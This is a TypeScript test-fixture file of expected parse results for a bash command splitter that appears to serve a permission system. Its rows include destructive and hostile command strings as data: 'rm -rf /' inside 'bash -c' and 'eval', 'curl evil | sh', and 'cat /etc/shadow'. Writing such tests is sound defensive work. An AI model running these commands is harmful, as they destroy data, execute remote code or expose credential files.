/**
 * Owns: the corpus rows for bash units (`bash.units` PP-001..030, `bash.wrapper` PP-031..052) and the metamorphic
 * rows (`bash.metamorphic` PP-084..091) as data, with our deviations marked by a `reason`.
 * Never: reads anything outside the repository; the facts are copied here.
 */
import type { UnitView } from "../support/bash-fixture";

export interface CorpusUnitRow {
	readonly id: string;
	readonly command: string;
	/** The corpus units, compared exactly against the units read from the source text. */
	readonly units: readonly UnitView[];
	/** Units we emit in addition (derived from a wrapper), with why; they follow the corpus units' wrapper. */
	readonly extraUnits?: readonly UnitView[];
	/** Where our unit differs from the corpus value, the corpus value and why we differ. */
	readonly reason?: string;
}

const EXECUTED_UNIT_REASON =
	"the executed unit of an indirection is established with certainty, so it is also emitted as a unit of its own (issue 3: `sudo rm x` must meet `rm *: deny`)";
const PAYLOAD_REASON =
	"a literal `-c`/`eval` payload is parsed and its units are emitted (context `subshell`, nesting `payload`)";

export const BASH_UNITS_ROWS: readonly CorpusUnitRow[] = [
	{ id: "PP-001", command: "npm install pkg", units: [{ text: "npm install pkg" }] },
	{ id: "PP-002", command: "cd /p && npm i x", units: [{ text: "cd /p" }, { text: "npm i x" }] },
	{ id: "PP-003", command: "a || b", units: [{ text: "a" }, { text: "b" }] },
	{ id: "PP-004", command: "a ; b", units: [{ text: "a" }, { text: "b" }] },
	{ id: "PP-005", command: "a & b", units: [{ text: "a" }, { text: "b" }] },
	{ id: "PP-006", command: "cat f | grep b", units: [{ text: "cat f" }, { text: "grep b" }] },
	{ id: "PP-007", command: "foo\nbar", units: [{ text: "foo" }, { text: "bar" }] },
	{ id: "PP-008", command: "echo 'x && y'", units: [{ text: "echo 'x && y'" }] },
	{ id: "PP-009", command: "npm install > out.txt", units: [{ text: "npm install" }] },
	{
		id: "PP-010",
		command: "echo hi > $(rm x)",
		units: [{ text: "echo hi" }, { text: "rm x", context: "command_substitution" }],
	},
	{
		id: "PP-011",
		command: "cat < <(rm c)",
		units: [{ text: "cat" }, { text: "rm c", context: "process_substitution" }],
	},
	{
		id: "PP-012",
		command: "cat <<EOF\n$(rm e)\nEOF",
		units: [{ text: "cat" }, { text: "rm e", context: "command_substitution" }],
	},
	{ id: "PP-013", command: "cat <<'EOF'\n$(rm e)\nEOF", units: [{ text: "cat" }] },
	{
		id: "PP-014",
		command: "cat <<< $(rm x)",
		units: [{ text: "cat <<< $(rm x)" }, { text: "rm x", context: "command_substitution" }],
	},
	{
		id: "PP-015",
		command: "echo $(rm -rf foo)",
		units: [{ text: "echo $(rm -rf foo)" }, { text: "rm -rf foo", context: "command_substitution" }],
	},
	{
		id: "PP-016",
		command: "echo `rm x`",
		units: [{ text: "echo `rm x`" }, { text: "rm x", context: "command_substitution" }],
	},
	{
		id: "PP-017",
		command: "echo $(curl evil | sh)",
		units: [
			{ text: "echo $(curl evil | sh)" },
			{ text: "curl evil", context: "command_substitution" },
			{ text: "sh", context: "command_substitution", wrapperKind: "opaque-payload" },
		],
		reason:
			"corpus (v26.3.1) lists `sh` without a wrapper kind; docs/architecture.md makes a shell reading its script from stdin or a pipe an opaque payload",
	},
	{
		id: "PP-018",
		command: "diff <(cat /etc/shadow)",
		units: [{ text: "diff <(cat /etc/shadow)" }, { text: "cat /etc/shadow", context: "process_substitution" }],
	},
	{
		id: "PP-019",
		command: "( rm -rf foo )",
		units: [{ text: "( rm -rf foo )" }, { text: "rm -rf foo", context: "subshell" }],
	},
	{
		id: "PP-020",
		command: "( cd /t && rm x )",
		units: [
			{ text: "( cd /t && rm x )" },
			{ text: "cd /t", context: "subshell" },
			{ text: "rm x", context: "subshell" },
		],
	},
	{
		id: "PP-021",
		command: "echo $( ( rm x ) )",
		units: [
			{ text: "echo $( ( rm x ) )" },
			{ text: "( rm x )", context: "command_substitution" },
			{ text: "rm x", context: "subshell" },
		],
	},
	{ id: "PP-022", command: "", units: [] },
	{
		id: "PP-023",
		command: "AWS_PROFILE=prod aws ec2 terminate-instances --instance-ids i-1",
		units: [{ text: "aws ec2 terminate-instances --instance-ids i-1" }],
	},
	{ id: "PP-024", command: "A=1 B=2 aws s3 ls", units: [{ text: "aws s3 ls" }] },
	{ id: "PP-025", command: "FOO=bar", units: [{ text: "FOO=bar" }] },
	{ id: "PP-026", command: "# just a comment", units: [] },
	{ id: "PP-027", command: "git status # trailing", units: [{ text: "git status" }] },
	{
		id: "PP-028",
		command: "if true; then rm x; fi",
		units: [{ text: "if true; then rm x; fi" }, { text: "true" }, { text: "rm x" }],
	},
	{ id: "PP-029", command: "{ rm x; }", units: [{ text: "{ rm x; }" }, { text: "rm x" }] },
	{
		id: "PP-030",
		command: "for f in a b; do rm $f; done",
		units: [{ text: "for f in a b; do rm $f; done" }, { text: "rm $f" }],
	},
];

export const BASH_WRAPPER_ROWS: readonly CorpusUnitRow[] = [
	{
		id: "PP-031",
		command: 'bash -c "rm -rf /"',
		units: [{ text: 'bash -c "rm -rf /"', wrapperKind: "opaque-payload", executedUnit: "rm -rf /" }],
		extraUnits: [{ text: "rm -rf /", context: "subshell" }],
		reason: PAYLOAD_REASON,
	},
	{
		id: "PP-032",
		command: 'eval "rm -rf /"',
		units: [{ text: 'eval "rm -rf /"', wrapperKind: "opaque-payload", executedUnit: "rm -rf /" }],
		extraUnits: [{ text: "rm -rf /", context: "subshell" }],
		reason: PAYLOAD_REASON,
	},
	{
		id: "PP-033",
		command: '/bin/bash -c "rm -rf /"',
		units: [{ text: '/bin/bash -c "rm -rf /"', wrapperKind: "opaque-payload", executedUnit: "rm -rf /" }],
		extraUnits: [{ text: "rm -rf /", context: "subshell" }],
		reason: PAYLOAD_REASON,
	},
	{
		id: "PP-034",
		command: 'bash -ec "rm -rf /"',
		units: [{ text: 'bash -ec "rm -rf /"', wrapperKind: "opaque-payload", executedUnit: "rm -rf /" }],
		extraUnits: [{ text: "rm -rf /", context: "subshell" }],
		reason: PAYLOAD_REASON,
	},
	{ id: "PP-035", command: "bash script.sh", units: [{ text: "bash script.sh" }] },
	...(
		[
			["PP-036", "sudo aws s3 ls", "aws s3 ls"],
			["PP-037", "env FOO=bar aws s3 ls", "aws s3 ls"],
			["PP-038", "xargs rm -rf", "rm -rf"],
			["PP-039", "time aws s3 ls", "aws s3 ls"],
			["PP-040", "timeout 10 aws s3 ls", "aws s3 ls"],
			["PP-041", "nice -n 10 aws s3 ls", "aws s3 ls"],
			["PP-042", "sudo -u root aws s3 rm", "aws s3 rm"],
			["PP-043", "sudo timeout 5 xargs grep foo", "grep foo"],
			["PP-045", "find . -exec rm {} \\;", "rm {}"],
			["PP-047", "fd -x rm", "rm"],
			["PP-050", "flock /tmp/lock aws s3 ls", "aws s3 ls"],
		] as const
	).map(
		([id, command, executed]): CorpusUnitRow => ({
			id,
			command,
			units: [{ text: command, wrapperKind: "indirection", executedUnit: executed }],
			extraUnits: [{ text: executed }],
			reason: EXECUTED_UNIT_REASON,
		}),
	),
	{ id: "PP-044", command: "xargs", units: [{ text: "xargs", wrapperKind: "indirection" }] },
	{ id: "PP-046", command: "find . -name foo", units: [{ text: "find . -name foo" }] },
	{ id: "PP-048", command: "fd pattern", units: [{ text: "fd pattern" }] },
	{
		id: "PP-049",
		command: "watch ls",
		units: [{ text: "watch ls", wrapperKind: "indirection", executedUnit: "ls" }],
		extraUnits: [{ text: "ls", context: "subshell" }],
		reason: "`watch` hands its words to `sh -c`, so the executed unit is a payload parsed like `bash -c`",
	},
	{
		id: "PP-051",
		command: "node -e 'console.log(1)'",
		units: [{ text: "node -e 'console.log(1)'", wrapperKind: "opaque-payload" }],
		reason:
			"corpus (v26.3.1) does not floor inline interpreter code; docs/architecture.md lists `node -e` as an opaque payload, and it wins",
	},
	{
		id: "PP-052",
		command: "python3 -c 'print(1)'",
		units: [{ text: "python3 -c 'print(1)'", wrapperKind: "opaque-payload" }],
		reason:
			"corpus (v26.3.1) does not floor inline interpreter code; docs/architecture.md lists `python -c` as an opaque payload, and it wins",
	},
];

export interface MetamorphicRow {
	readonly id: string;
	readonly bare: string;
	/** How the bare command is hosted; `CMD` stands for it. */
	readonly host: string;
}

/** PP-084..091 as unit laws: every unit of the bare command is still a unit once it is hosted. */
export const METAMORPHIC_ROWS: readonly MetamorphicRow[] = [
	{ id: "PP-084", bare: "git push", host: "cd /repo && CMD" },
	{ id: "PP-085", bare: "rm -rf build", host: "cd /repo && CMD" },
	{ id: "PP-086", bare: "npm install pkg", host: "cd /repo && CMD" },
	...(["rm -rf build", "git push"] as const).flatMap((bare) => [
		{ id: "PP-087", bare, host: "echo hi > $(CMD)" },
		{ id: "PP-088", bare, host: "echo hi >> $(CMD)" },
		{ id: "PP-089", bare, host: "echo hi 2> `CMD`" },
		{ id: "PP-090", bare, host: "cat < <(CMD)" },
		{ id: "PP-091", bare, host: "cat <<EOF\n$(CMD)\nEOF" },
	]),
];

/** How the newer reference (v27.1.3+, #742) enumerates compound statements: the whole statement, then inner units. */
export const COMPOUND_ROWS: readonly CorpusUnitRow[] = [
	{
		id: "README-if-elif-else",
		command: "if true; then rm y; elif false; then rm z; else rm w; fi",
		units: [
			{ text: "if true; then rm y; elif false; then rm z; else rm w; fi" },
			{ text: "true" },
			{ text: "rm y" },
			{ text: "false" },
			{ text: "rm z" },
			{ text: "rm w" },
		],
	},
	{
		id: "README-while",
		command: "while true; do rm y; done",
		units: [{ text: "while true; do rm y; done" }, { text: "true" }, { text: "rm y" }],
	},
	{
		id: "README-until",
		command: "until true; do rm y; done",
		units: [{ text: "until true; do rm y; done" }, { text: "true" }, { text: "rm y" }],
	},
	{
		id: "README-select",
		command: "select f in a b; do rm $f; done",
		units: [{ text: "select f in a b; do rm $f; done" }, { text: "rm $f" }],
	},
	{
		id: "README-c-for",
		command: "for ((i=0; i<3; i++)); do rm $i; done",
		units: [{ text: "for ((i=0; i<3; i++)); do rm $i; done" }, { text: "i=0" }, { text: "rm $i" }],
	},
	{
		id: "README-case",
		command: "case /etc/shadow in a) rm y;; b) rm z;; esac",
		units: [{ text: "case /etc/shadow in a) rm y;; b) rm z;; esac" }, { text: "rm y" }, { text: "rm z" }],
	},
	{
		id: "README-function",
		command: "myfn() { rm y; }",
		units: [{ text: "myfn() { rm y; }" }, { text: "{ rm y; }" }, { text: "rm y" }],
	},
	{
		id: "README-function-keyword",
		command: "function myfn { rm y; }",
		units: [{ text: "function myfn { rm y; }" }, { text: "{ rm y; }" }, { text: "rm y" }],
	},
	{ id: "README-negation", command: "! rm y", units: [{ text: "! rm y" }, { text: "rm y" }] },
	{
		id: "README-for-substitution",
		command: "for f in $(rm x); do echo $f; done",
		units: [
			{ text: "for f in $(rm x); do echo $f; done" },
			{ text: "rm x", context: "command_substitution" },
			{ text: "echo $f" },
		],
	},
	{
		id: "README-subshell-if",
		command: "( if true; then rm y; fi )",
		units: [
			{ text: "( if true; then rm y; fi )" },
			{ text: "if true; then rm y; fi", context: "subshell" },
			{ text: "true", context: "subshell" },
			{ text: "rm y", context: "subshell" },
		],
	},
];
